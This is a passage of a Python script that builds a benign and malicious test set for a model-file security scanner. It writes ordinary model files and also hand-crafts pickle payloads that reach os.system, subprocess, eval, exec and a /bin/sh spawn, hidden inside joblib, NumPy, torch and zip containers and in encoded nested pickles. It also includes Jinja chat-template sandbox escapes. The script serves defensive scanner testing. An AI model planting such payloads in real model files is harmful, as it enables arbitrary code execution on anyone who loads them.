    joblib.dump({'emb': rng.standard_normal((2_000_000 if big else 200_000, 8)).astype(np.float32)},
                ROOT / 'benign' / rel)
    record('benign', rel, 'joblib-numpy-inline', 'joblib.dump of a large float32 array (mmap-aligned, inline)',
           source={'generated': 'build_set.py'})
    rel = f'{grp}/mmap_aligned_many.joblib'
    joblib.dump([rng.random(i + 1) for i in range(200)], ROOT / 'benign' / rel)
    record('benign', rel, 'joblib-numpy-inline', 'joblib.dump of 200 small arrays (many alignment pads)',
           source={'generated': 'build_set.py'})

    # stdlib value types, one pickle each (protocol 4, the default of joblib/torch-era code) and protocol 2
    for name, v in values.items():
        for proto in (2, 4):
            generated('benign', f'stdlib-values/{name}_p{proto}.pkl', pickle.dumps(v, protocol=proto),
                      'stdlib-value-type', f'pickle of a standard library value ({name}), protocol {proto}')
    # SciPy sparse, plain pickle
    for name, mtx in sparse.items():
        generated('benign', f'scipy-sparse/{name}.pkl', pickle.dumps(mtx, protocol=4), 'scipy-sparse',
                  f'pickle of a SciPy sparse {name} matrix/array')
    # NumPy: np.save/np.savez of object and plain arrays, pickles of arrays/scalars/dtypes, legacy module paths
    grp = 'numpy-generated'
    buf = io.BytesIO()
    np.save(buf, objarr, allow_pickle=True)
    generated('benign', f'{grp}/object_array.npy', buf.getvalue(), 'numpy-object-array', 'np.save of an object array')
    for fn, cname in ((np.savez, 'object_arrays.npz'), (np.savez_compressed, 'object_arrays_compressed.npz')):
        b = io.BytesIO()
        fn(b, a=objarr, w=arrays['weights'])
        generated('benign', f'{grp}/{cname}', b.getvalue(), 'numpy-object-array', f'{fn.__name__} with an object array')
    for ver in ((1, 0), (2, 0), (3, 0)):
        b = io.BytesIO()
        np.lib.format.write_array(b, arrays['rec'], version=ver)
        generated('benign', f'{grp}/structured_v{ver[0]}.npy', b.getvalue(), 'numpy-npy', f'.npy format {ver}')
    for proto in range(6):
        generated('benign', f'{grp}/ndarray_p{proto}.pkl', pickle.dumps(arrays['weights'], protocol=proto),
                  'numpy-pickle', f'pickle of an ndarray, protocol {proto}')
    generated('benign', f'{grp}/scalars_dtypes.pkl',
              pickle.dumps({'f': np.float64(1.5), 'i': np.int32(3), 'dt': np.dtype('<f4'),
                            'rec': np.dtype([('a', 'i4')]), 'b': np.bool_(True)}, protocol=4),
              'numpy-pickle', 'pickle of NumPy scalars and dtypes')
    generated('benign', f'{grp}/masked_array.pkl', pickle.dumps(np.ma.masked_array([1, 2, 3], mask=[0, 1, 0]),
                                                                  protocol=4), 'numpy-pickle', 'pickle of a masked array')
    # the paths NumPy 1.x wrote (numpy.core.*) and 1.16-1.26 _multiarray_umath: same bytes with the old module names
    for proto in (2, 4):
        data = pickle.dumps({'w': arrays['weights'], 's': np.float64(2.5), 'o': objarr}, protocol=proto)
        for old, tag in (('numpy.core.multiarray', 'numpy1_core'), ('numpy.core._multiarray_umath', 'numpy1_umath')):
            generated('benign', f'{grp}/legacy_{tag}_p{proto}.pkl', retarget(data, 'numpy._core.multiarray', old),
                      'numpy-legacy-reconstruct', f'ndarray/scalar pickle as NumPy 1.x wrote it ({old}), protocol {proto}')
    # protocol-0 pickles with long strings
    grp = 'protocol0'
    text = ('Lorem ipsum dolor sit amet, consectetur adipiscing elit. ' * 40 + '\n') * 40
    generated('benign', f'{grp}/long_str_p0.pkl', pickle.dumps({'text': text}, protocol=0), 'protocol0-long-string',
              'protocol-0 pickle of a 90 kB string')
    generated('benign', f'{grp}/long_unicode_p0.pkl', pickle.dumps({'text': 'naïve café — ' * 20000}, protocol=0),
              'protocol0-long-string', 'protocol-0 pickle of a 280 kB non-ASCII string')
    generated('benign', f'{grp}/long_bytes_p0.pkl', pickle.dumps({'blob': bytes(range(256)) * 2000}, protocol=0),
              'protocol0-long-string', 'protocol-0 pickle of 512 kB bytes (_codecs.encode)')
    generated('benign', f'{grp}/vocab_p0.pkl', pickle.dumps({f'token{i}': i for i in range(50000)}, protocol=0),
              'protocol0-long-string', 'protocol-0 pickle of a 50,000-entry vocabulary')
    generated('benign', f'{grp}/ndarray_p0.pkl', pickle.dumps(rng.random(20000), protocol=0), 'protocol0-long-string',
              'protocol-0 pickle of a 20,000-element ndarray (latin-1 bytes through _codecs.encode)')
    generated('benign', f'{grp}/ndarray_p1.pkl', pickle.dumps(rng.random(20000), protocol=1), 'numpy-pickle',
              'protocol-1 pickle of a 20,000-element ndarray')
    # large pickles
    grp = 'large-pickles'
    generated('benign', f'{grp}/tuple_20000.pkl', pickle.dumps(tuple(range(20000)), protocol=4), 'large-pickle',
              'a 20,000-element tuple (MARK ... TUPLE: 20,000 items on the stack)')
    generated('benign', f'{grp}/vocab_2M.pkl', pickle.dumps({f'w{i}': i for i in range(2_000_000 if big else 200_000)},
                                                           protocol=4), 'large-pickle', 'a 2,000,000-entry vocabulary dict')
    if big:
        generated('benign', f'{grp}/memo_10_5M_strings.pkl',
                  pickle.dumps([f's{i}' for i in range(10_500_000)], protocol=4), 'large-pickle-memo',
                  'a list of 10.5 million distinct strings (10.5 M memo entries, 120 MB)')
    generated('benign', f'{grp}/nested_lists_depth200.pkl', pickle.dumps(nested(200), protocol=4), 'large-pickle',
              'a list nested 200 deep')
    # torch-format files (written with stand-in torch modules: the same imports and layout as torch.save)
    grp = 'torch-generated'
    tensors = {'linear.weight': rng.standard_normal((8, 4)).astype(np.float32),
               'linear.bias': np.zeros(8, dtype=np.float32)}
    dpkl, st = torch_state_dict_pickle(tensors)
    generated('benign', f'{grp}/pytorch_model.bin', torch_zip('pytorch_model', dpkl, st), 'torch-zip',
              'torch.save zip layout of a state dict (archive/data.pkl + data/N)')
    lp, lst = torch_legacy_state_dict_pickle(tensors)
    generated('benign', f'{grp}/legacy_state_dict.pt', torch_legacy(lp, lst), 'torch-legacy',
              'torch.save pre-1.6 stream (magic, version, sys_info, pickle, keys, storages)')
    generated('benign', f'{grp}/tar_state_dict.pt', torch_tar(tar_object_pickle(list(tensors)), tensors), 'torch-tar',
              'torch.save 0.1.x tar format (sys_info, pickle, storages, tensors)')
    for proto in (2, 4):
        ta = training_args(proto)
        generated('benign', f'training-args/training_args_p{proto}.bin', torch_zip('training_args', ta, {}),
                  'training-args-dataclass', 'transformers TrainingArguments saved by Trainer (torch zip, dataclass '
                  f'+ enums), protocol {proto}')
    generated('benign', 'training-args/training_args_plain.pkl', training_args(4), 'training-args-dataclass',
              'pickle of transformers TrainingArguments (dataclass with enum fields)')
    # safetensors with metadata prose
    for name, meta in SAFETENSORS_META.items():
        generated('benign', f'safetensors/{name}.safetensors', safetensors_bytes(meta, tensors), 'safetensors-metadata',
                  'safetensors whose __metadata__ holds ordinary prose / training notes')
    # ONNX with external data
    for name, files in onnx_external_cases().items():
        for fn, data in files.items():
            write('benign', f'onnx-external/{name}/{fn}', data)
        record('benign', f'onnx-external/{name}', 'onnx-external-data',
               'ONNX model whose initializers live in external data files beside it (hand-encoded protobuf)',
               source={'generated': 'build_set.py'})


def nested(depth):
    v = [1]
    for _ in range(depth):
        v = [v, 'x']
    return v


def retarget(data: bytes, old: str, new: str) -> bytes:
    """Rename a module in a pickle by walking its opcodes (lengths fixed up, FRAMEs dropped)."""
    import pickletools

    ops = list(pickletools.genops(data))
    out = io.BytesIO()
    for n, (op, arg, pos) in enumerate(ops):
        end = ops[n + 1][2] if n + 1 < len(ops) else len(data)
        if op.name == 'FRAME':
            continue
        if op.name == 'GLOBAL':
            mod, name = arg.split(' ', 1)
            out.write(b'c' + (new if mod == old else mod).encode() + b'\n' + name.encode() + b'\n')
        elif op.name in ('SHORT_BINUNICODE', 'BINUNICODE', 'BINUNICODE8') and arg == old:
            out.write(b'\x8c' + bytes([len(new)]) + new.encode())
        else:
            out.write(data[pos:end])
    return out.getvalue()


SAFETENSORS_META = {
    'hf_format_pt': {'format': 'pt'},
    'kohya_lora': {
        'ss_training_comment': 'Trained on 40 photos of my own garden. Please do not use for commercial work; '
                               'if you run into issues, open a discussion on the model page.',
        'ss_network_module': 'networks.lora', 'ss_network_dim': '32', 'ss_learning_rate': '0.0001',
        'ss_tag_frequency': json.dumps({'img': {'garden': 40, 'flowers, sunlight': 12}}),
        'ss_dataset_dirs': json.dumps({'10_garden': {'n_repeats': 10, 'img_count': 40}}),
        'ss_output_name': 'garden_v2', 'sshs_model_hash': '8a4f0c...', 'ss_sd_model_name': 'v1-5-pruned.safetensors',
    },
    'modelspec_prose': {
        'modelspec.sai_model_spec': '1.0.0', 'modelspec.architecture': 'stable-diffusion-xl-v1-base/lora',
        'modelspec.title': 'Watercolor style',
        'modelspec.description': 'A LoRA that turns photos into watercolor paintings. Use the trigger word '
                                 '"wtrclr". Import it in diffusers with load_lora_weights(), then run the pipeline as '
                                 'usual; evaluation prompts are listed in the README.',
        'modelspec.author': 'Jane Doe', 'modelspec.license': 'openrail++',
    },
    'model_card_text': {
        'format': 'pt',
        'description': 'This checkpoint was exported from PyTorch. To execute the model, load it with '
                       'safetensors.torch.load_file and call model.eval(). The evaluation script imports the '
                       'tokenizer from the same folder; see https://huggingface.co/docs for details.',
        'training': 'AdamW, lr 2e-5, 3 epochs; system prompt: "You are a helpful assistant."',
    },
    'mergekit_yaml': {
        'format': 'pt', 'mergekit_version': '0.0.4',
        'mergekit_config': 'merge_method: slerp\nbase_model: org/model-a\nslices:\n  - sources:\n      - model: '
                           'org/model-a\n        layer_range: [0, 32]\nparameters:\n  t: 0.5\ndtype: bfloat16\n',
    },
    'long_prose': {'notes': ('We thank the community. Results may vary; always evaluate on your own data. ' * 200)},
}


def safetensors_bytes(meta: dict, tensors: dict[str, np.ndarray]) -> bytes:
    header: dict = {'__metadata__': meta}
    off, blobs = 0, []
    for k, a in tensors.items():
        b = a.astype(np.float32).tobytes()
        header[k] = {'dtype': 'F32', 'shape': list(a.shape), 'data_offsets': [off, off + len(b)]}
        off += len(b)
        blobs.append(b)
    h = json.dumps(header, separators=(',', ':')).encode()
    h += b' ' * (-len(h) % 8)
    return struct.pack('<Q', len(h)) + h + b''.join(blobs)


# --- protobuf, by hand --------------------------------------------------------------------------------------------


def varint(n: int) -> bytes:
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        out.append(b | (0x80 if n else 0))
        if not n:
            return bytes(out)


def fld(num: int, value) -> bytes:
    if isinstance(value, int):
        return varint(num << 3) + varint(value)
    if isinstance(value, str):
        value = value.encode()
    return varint(num << 3 | 2) + varint(len(value)) + value


def onnx_model(initializers: list[tuple[str, list[int], dict[str, str]]], ops: list[tuple[str, list, list]],
               inputs, outputs) -> bytes:
    def tensor_type(dims):
        shape = b''.join(fld(1, fld(1, d)) for d in dims)
        return fld(1, fld(1, 1) + fld(2, shape))  # TypeProto.tensor_type{elem_type FLOAT, shape}

    def value_info(name, dims):
        return fld(1, name) + fld(2, tensor_type(dims))

    graph = b''
    for op, ins, outs in ops:
        graph += fld(1, b''.join(fld(1, i) for i in ins) + b''.join(fld(2, o) for o in outs) + fld(4, op))
    graph += fld(2, 'main')
    for name, dims, ext in initializers:
        t = b''.join(fld(1, d) for d in dims) + fld(2, 1) + fld(8, name)
        t += b''.join(fld(13, fld(1, k) + fld(2, v)) for k, v in ext.items()) + fld(14, 1)
        graph += fld(5, t)
    for name, dims in inputs:
        graph += fld(11, value_info(name, dims))
    for name, dims in outputs:
        graph += fld(12, value_info(name, dims))
    return fld(1, 8) + fld(2, 'pytorch') + fld(3, '2.3.0') + fld(7, graph) + fld(8, fld(1, '') + fld(2, 17))


def onnx_external_cases() -> dict[str, dict[str, bytes]]:
    rng = np.random.default_rng(1)
    w = rng.standard_normal((4, 8)).astype(np.float32)
    b = rng.standard_normal((8,)).astype(np.float32)
    ops = [('MatMul', ['x', 'w'], ['h']), ('Add', ['h', 'b'], ['y'])]
    io_ = ([('x', [1, 4])], [('y', [1, 8])])
    one = w.tobytes() + b.tobytes()
    cases = {
        'single_file': {
            'model.onnx': onnx_model([('w', [4, 8], {'location': 'model.onnx.data', 'offset': '0',
                                                       'length': str(w.nbytes)}),
                                      ('b', [8], {'location': 'model.onnx.data', 'offset': str(w.nbytes),
                                                  'length': str(b.nbytes)})], ops, *io_),
            'model.onnx.data': one,
        },
        'per_tensor_files': {
            'model.onnx': onnx_model([('w', [4, 8], {'location': 'w.bin'}), ('b', [8], {'location': 'b.bin'})],
                                     ops, *io_),
            'w.bin': w.tobytes(), 'b.bin': b.tobytes(),
        },
        'subdir_weights': {
            'model.onnx': onnx_model([('w', [4, 8], {'location': 'weights/model_data', 'offset': '0'}),
                                      ('b', [8], {'location': 'weights/model_data', 'offset': str(w.nbytes)})],
                                     ops, *io_),
            'weights/model_data': one,
        },
        'optimum_style': {
            'model.onnx': onnx_model([('w', [4, 8], {'location': 'model.onnx_data', 'offset': '0',
                                                       'length': str(w.nbytes)}),
                                      ('b', [8], {'location': 'model.onnx_data', 'offset': str(w.nbytes),
                                                  'length': str(b.nbytes)})], ops, *io_),
            'model.onnx_data': one,
            'config.json': json.dumps({'model_type': 'bert', 'hidden_size': 8}).encode(),
        },
    }
    return cases


# ---------------------------------------------------------------------------------------------------------------
# Generated malicious files: opcodes that call a code-running function when unpickled (never unpickled here)
# ---------------------------------------------------------------------------------------------------------------

CMD = 'echo precision-set-payload'


def s_op(proto: int, s: str) -> bytes:
    """Push a str the way the protocol does."""
    b = s.encode()
    if proto == 0:
        return b'V' + s.encode('raw_unicode_escape') + b'\n'
    if proto < 4:
        return b'X' + struct.pack('<I', len(b)) + b
    return b'\x8c' + bytes([len(b)]) + b


def g_op(proto: int, mod: str, name: str, memo: bool = False) -> bytes:
    if proto < 4:
        return b'c' + mod.encode() + b'\n' + name.encode() + b'\n'
    return s_op(proto, mod) + (b'\x94' if memo else b'') + s_op(proto, name) + (b'\x94' if memo else b'') + b'\x93'


def frame(proto: int, body: bytes) -> bytes:
    if proto >= 4:
        return b'\x80' + bytes([proto]) + b'\x95' + struct.pack('<Q', len(body)) + body
    if proto >= 2:
        return b'\x80' + bytes([proto]) + body
    return body


def call(proto: int, mod: str, name: str, *args: str) -> bytes:
    """mod.name(*args) via REDUCE (MARK ... TUPLE for protocol 0/1, TUPLEn above)."""
    a = b''.join(s_op(proto, x) for x in args)
    if proto < 2 or len(args) > 3:
        tup = b'(' + a + b't'
    else:
        tup = a + [b')', b'\x85', b'\x86', b'\x87'][len(args)]
    return g_op(proto, mod, name) + tup + b'R'


def payloads(proto: int) -> dict[str, bytes]:
    p = proto
    getattr_chain = (g_op(p, 'builtins', 'getattr') + b'(' + call(p, 'builtins', '__import__', 'os')
                     + s_op(p, 'system') + b'tR' + b'(' + s_op(p, CMD) + b'tR')
    importlib_chain = (g_op(p, 'builtins', 'getattr') + b'(' + call(p, 'importlib', 'import_module', 'os')
                       + s_op(p, 'system') + b'tR' + b'(' + s_op(p, CMD) + b'tR')
    d = {
        'os_system': call(p, 'os', 'system', CMD),
        'posix_system': call(p, 'posix', 'system', CMD),
        'subprocess_getoutput': call(p, 'subprocess', 'getoutput', CMD),
        'builtins_exec': call(p, 'builtins', 'exec', f'import os; os.system({CMD!r})'),
        'builtins_eval': call(p, 'builtins', 'eval', f"__import__('os').system({CMD!r})"),
        'getattr_import_chain': getattr_chain,
        'runpy_run_code': g_op(p, 'runpy', '_run_code') + b'(' + s_op(p, f'import os; os.system({CMD!r})')
        + b'(dtR',
        'importlib_getattr_chain': importlib_chain,
        'pty_spawn': call(p, 'pty', 'spawn', '/bin/sh'),
    }
    return {k: frame(p, v + b'.') for k, v in d.items()}


class Evil:
    """Pickles as os.system(CMD): __reduce__ only names the call; nothing runs while pickling."""

    def __reduce__(self):
        return (os.system, (CMD,))


class EvilEval:
    def __reduce__(self):
        return (eval, (f"__import__('os').system({CMD!r})",))


def malicious_generated():
    import joblib
    from joblib import numpy_pickle_compat
    from joblib.compressor import _COMPRESSORS

    grp = 'gen-protocols'
    for proto in range(6):
        for name, data in payloads(proto).items():
            if proto not in (0, 2, 4, 5) and name not in ('os_system', 'builtins_eval', 'getattr_import_chain'):
                continue
            generated('malicious', f'{grp}/{name}_p{proto}.pkl', data, 'gen-reduce',
                      f'{name} via REDUCE, protocol {proto}')
    # other call shapes: INST, OBJ, NEWOBJ, NEWOBJ_EX, BUILD-less memo games
    shapes = {
        'inst_p0': b"(S'" + CMD.encode() + b"'\nios\nsystem\n.",
        'obj_p1': b'(cos\nsystem\nX' + struct.pack('<I', len(CMD)) + CMD.encode() + b'o.',
        'reduce_popen_list_p2': frame(2, g_op(2, 'subprocess', 'Popen') + b'](' + s_op(2, '/bin/sh') + s_op(2, '-c')
                                      + s_op(2, CMD) + b'e\x85R.'),
        'obj_popen_list_p4': frame(4, b'(' + g_op(4, 'subprocess', 'Popen') + b'](' + s_op(4, '/bin/sh')
                                   + s_op(4, '-c') + s_op(4, CMD) + b'eo.'),
        'memo_stack_global_p4': frame(4, s_op(4, 'os') + b'\x94' + s_op(4, 'system') + b'\x94' + b'00h\x00h\x01\x93'
                                      + s_op(4, CMD) + b'\x85R.'),
        'binput_get_global_p2': frame(2, b'cos\nsystem\nq\x05' + b'0' + b'h\x05' + s_op(2, CMD) + b'\x85R.'),
        'nested_pickle_loads_p4': frame(4, g_op(4, 'pickle', 'loads') + b'C' + bytes([len(payloads(2)['os_system'])])
                                        + payloads(2)['os_system'] + b'\x85R.'),
        'reduce_after_data_p4': frame(4, b'}\x94(' + s_op(4, 'weights') + b']\x94(K\x01K\x02e'
                                      + s_op(4, 'cb') + call(4, 'os', 'system', CMD) + b'u.'),
    }
    # fickling tests whose opcode-API pickles do not serialise well-formed, written by hand
    shapes['after_fickling_builtins_import_bypass_p0'] = (
        b"cbuiltins\n__import__\n(S'os'\ntRp0\n0cbuiltins\ngetattr\n(g0\nS'system'\ntR(S'" + CMD.encode()
        + b"'\ntR.")
    shapes['after_fickling_pty_spawn_obj_p0'] = b"(cpty\nspawn\nS'/bin/sh'\no."
    shapes['after_fickling_operator_methodcaller_p0'] = (
        b"cbuiltins\n__import__\n(Vos\ntRp0\n0c_operator\nmethodcaller\n(Vsystem\nV" + CMD.encode()
        + b"\ntR(g0\ntR.")
    shapes['operator_attrgetter_p4'] = frame(4, g_op(4, 'operator', 'attrgetter') + s_op(4, 'system') + b'\x85R'
                                            + b'(' + g_op(4, 'builtins', '__import__') + s_op(4, 'os') + b'\x85R'
                                            + b'tR' + s_op(4, CMD) + b'\x85R.')
    for name, data in shapes.items():
        assert calls_something(data), name
        generated('malicious', f'gen-shapes/{name}.pkl', data, 'gen-shape', f'os.system reached through {name}')
    # joblib containers around a payload pickle: every compressor joblib writes, and the pre-0.10 ZFile
    pay = payloads(4)['os_system']
    pay_eval = payloads(2)['builtins_eval']
    for method in ('zlib', 'gzip', 'bz2', 'lzma', 'xz'):
        for pname, pdata in (('os_system', pay), ('eval', pay_eval)):
            buf = io.BytesIO()
            f = _COMPRESSORS[method].compressor_file(buf, compresslevel=3)
            f.write(pdata)
            f.close()
            generated('malicious', f'gen-joblib/{pname}.joblib.{method}', buf.getvalue(), f'gen-joblib-{method}',
                      f'joblib {method} container (its own file wrapper) holding a {pname} pickle')
    buf = io.BytesIO()
    numpy_pickle_compat.write_zfile(buf, pay, compress=3)
    generated('malicious', 'gen-joblib/os_system_zfile.gz', buf.getvalue(), 'gen-joblib-zfile',
              'joblib < 0.10 ZFile ("ZF" + length + zlib) holding an os.system pickle')
    # joblib NumpyArrayWrapper: an object array whose element reduces to os.system, inline after the wrapper
    rng = np.random.default_rng(2)
    objarr = np.empty(3, dtype=object)
    objarr[:] = ['ok', Evil(), 1]
    for method in (None, 'zlib', 'gzip', 'bz2', 'lzma', 'xz'):
        rel = f'gen-joblib/object_array_payload.joblib{"." + method if method else ""}'
        p = ROOT / 'malicious' / rel
        joblib.dump({'w': rng.random((16, 4)), 'o': objarr}, p, compress=(method, 3) if method else 0)
        record('malicious', rel, 'gen-joblib-numpy-wrapper', 'joblib dump: NumpyArrayWrapper for an object array '
               f'whose nested pickle calls os.system ({method or "uncompressed"})', source={'generated': 'build_set.py'})
    rel = 'gen-joblib/estimator_with_payload.joblib'
    joblib.dump({'coef_': rng.random((3, 3)), 'callback': EvilEval()}, ROOT / 'malicious' / rel)
    record('malicious', rel, 'gen-joblib-numpy-wrapper', 'joblib dump of arrays beside an object reducing to eval',
           source={'generated': 'build_set.py'})
    # NumPy: object arrays with a payload element
    b = io.BytesIO()
    np.save(b, objarr, allow_pickle=True)
    generated('malicious', 'gen-numpy/object_array_payload.npy', b.getvalue(), 'gen-numpy',
              'np.save of an object array whose element reduces to os.system')
    for fn in (np.savez, np.savez_compressed):
        b = io.BytesIO()
        fn(b, w=rng.random(4), o=objarr)
        generated('malicious', f'gen-numpy/object_array_payload_{fn.__name__}.npz', b.getvalue(), 'gen-numpy',
                  f'{fn.__name__} with an object array whose element reduces to os.system')
    # zip members and torch layouts
    fake_modules()
    tensors = {'w': rng.standard_normal((4, 4)).astype(np.float32)}
    _, st = torch_state_dict_pickle(tensors)
    evil_pkl = pickle.dumps({'state_dict': collections.OrderedDict(), 'hook': Evil()}, protocol=2)
    generated('malicious', 'gen-torch/zip_data_pkl.pt', torch_zip('archive', evil_pkl, st), 'gen-torch-zip',
              'torch zip layout whose archive/data.pkl calls os.system')
    generated('malicious', 'gen-torch/pytorch_model.bin', torch_zip('pytorch_model', payloads(2)['getattr_import_chain'],
                                                                   st), 'gen-torch-zip',
              'torch zip layout (pytorch_model.bin) whose data.pkl runs a getattr(__import__) chain')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w', zipfile.ZIP_DEFLATED) as z:
        z.writestr('model/config.json', '{}')
        z.writestr('model/weights.pkl', payloads(4)['subprocess_getoutput'])
    generated('malicious', 'gen-zip/deflated_member.zip', buf.getvalue(), 'gen-zip',
              'zip archive with a deflated pickle member calling subprocess.getoutput')
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, 'w') as z:
        z.writestr('data.txt', payloads(3)['builtins_exec'])
    generated('malicious', 'gen-zip/member_named_txt.zip', buf.getvalue(), 'gen-zip',
              'zip archive whose .txt member is an exec pickle')
    lp, lst = torch_legacy_state_dict_pickle(tensors)
    generated('malicious', 'gen-torch/legacy_payload_object.pt', torch_legacy(evil_pkl, lst), 'gen-torch-legacy',
              'pre-1.6 torch stream whose object pickle calls os.system')
    generated('malicious', 'gen-torch/legacy_payload_sys_info.pt',
              torch_legacy(lp, lst, sys_info=payloads(2)['builtins_eval']), 'gen-torch-legacy',
              'pre-1.6 torch stream whose sys_info pickle calls eval')
    generated('malicious', 'gen-torch/tar_payload_pickle.pt',
              torch_tar(payloads(2)['os_system'], tensors), 'gen-torch-tar',
              'torch 0.1.x tar format whose "pickle" member calls os.system')
    # a nested pickle in a hex/base64 string that a REDUCE decodes and loads
    inner = payloads(2)['os_system']
    b64 = (g_op(4, 'pickle', 'loads') + b'(' + g_op(4, 'base64', 'b64decode') + b'(' + s_op(4, base64.b64encode(inner)
           .decode()) + b'tR' + b'tR.')
    fromhex = g_op(4, 'builtins', 'getattr') + b'(' + g_op(4, 'builtins', 'bytes') + s_op(4, 'fromhex') + b'tR'
    hexed = g_op(4, 'pickle', 'loads') + b'(' + fromhex + b'(' + s_op(4, inner.hex()) + b'tR' + b'tR.'
    for enc, body in (('base64', b64), ('hex', hexed)):
        generated('malicious', f'gen-nested/{enc}_loads.pkl', frame(4, body), 'gen-nested',
                  f'pickle.loads of a {enc}-encoded os.system pickle')
    # chat templates that reach Python objects (as Jinja renders them without a sandbox)
    for name, tpl in JINJA_MALICIOUS.items():
        generated('malicious', f'gen-jinja/{name}.jinja', tpl.encode(), 'gen-jinja',
                  'chat template reaching os through Python object attributes')
        generated('malicious', f'gen-jinja/{name}-tokenizer/tokenizer_config.json',
                  json.dumps({'tokenizer_class': 'LlamaTokenizer', 'chat_template': tpl}).encode(),
                  'gen-jinja', 'tokenizer_config.json whose chat_template reaches os')
        MANIFEST[-1]['path'] = f'malicious/gen-jinja/{name}-tokenizer'


JINJA_MALICIOUS = {
    'cycler_globals': "{% for m in messages %}{{ m['content'] }}{% endfor %}"
                      "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    'lipsum_globals': "{{ lipsum.__globals__['os'].popen('id').read() }}",
    'joiner_context': "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.system('id') }}",
    'subclasses_walk': "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
                       "{{ c(['id']) }}{% endif %}{% endfor %}",
    'attr_filter': "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}",
    'namespace_globals': "{% set ns = namespace() %}{{ namespace.__init__.__globals__['__builtins__']"
                         "['__import__']('os').system('id') }}",
}


def mark_inert():
    """Malicious-by-name single pickles that, read statically, call nothing (one whole stream without REDUCE, OBJ,
    INST): loading them runs no code (they may carry an encoded pickle that nothing loads)."""
    import pickletools

    for e in MANIFEST:
        p = ROOT / e['path']
        if e['kind'] != 'malicious' or not p.is_file() or e['path'].endswith(('.zip', '.npy', '.npz', '.pt')) \
                or 'frame_boundary_divergence' in e['path']:  # its call hides past a FRAME a static walk trusts
            continue
        data = p.read_bytes()
        try:
            ops = list(pickletools.genops(data))
        except Exception:  # noqa: BLE001
            continue
        if ops[-1][2] + 1 != len(data) or any(o.name in ('REDUCE', 'OBJ', 'INST', 'NEWOBJ', 'NEWOBJ_EX', 'BUILD')
                                               for o, _, _ in ops):
            continue
        e['inert'] = True
        e['reason'] += '; read statically, the stream calls nothing, so loading it runs no code'


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--small', action='store_true', help='skip the 100 MB+ pickles')
    ap.add_argument('--onnx-sample', type=int, default=40)
    args = ap.parse_args()
    for k in ('benign', 'malicious'):
        shutil.rmtree(ROOT / k, ignore_errors=True)
    fake_modules()
    joblib_testdata()
    numpy_testdata()
    onnx_testdata(args.onnx_sample)
    tf_serving_testdata()
    picklescan_testdata()
    modelscan_testdata()
    modelaudit_testdata()
    chat_templates()
    tmp = HERE / '_fickling_test_bypasses.py'
    tmp.write_bytes(blob('trailofbits/fickling', 'test/test_bypasses.py'))
    fickling_bypasses(tmp)
    benign_generated(big=not args.small)
    malicious_generated()
    mark_inert()
    paths = [e['path'] for e in MANIFEST]
    dup = [p for p, n in collections.Counter(paths).items() if n > 1]
    assert not dup, dup
    for e in MANIFEST:
        assert (ROOT / e['path']).exists(), e['path']
    summary = collections.Counter((e['kind'], e['class']) for e in MANIFEST)
    (ROOT / 'manifest.json').write_text(json.dumps({
        'description': 'Precision evaluation set for the airs-model-gate built-in engine. kind=benign cases should '
                       'pass; kind=malicious cases must never pass. by_design=true marks benign-by-name files no '
                       'static scanner can verify (encrypted, not a model); inert=true marks "malicious" files whose '
                       'payload cannot run. Built by build_set.py; nothing was ever unpickled.',
        'cases': MANIFEST,
    }, indent=1))
    print(json.dumps({f'{k}/{c}': n for (k, c), n in sorted(summary.items())}, indent=1))
    print('benign', sum(1 for e in MANIFEST if e['kind'] == 'benign'), 'malicious',
          sum(1 for e in MANIFEST if e['kind'] == 'malicious'))


if __name__ == '__main__':
    main()
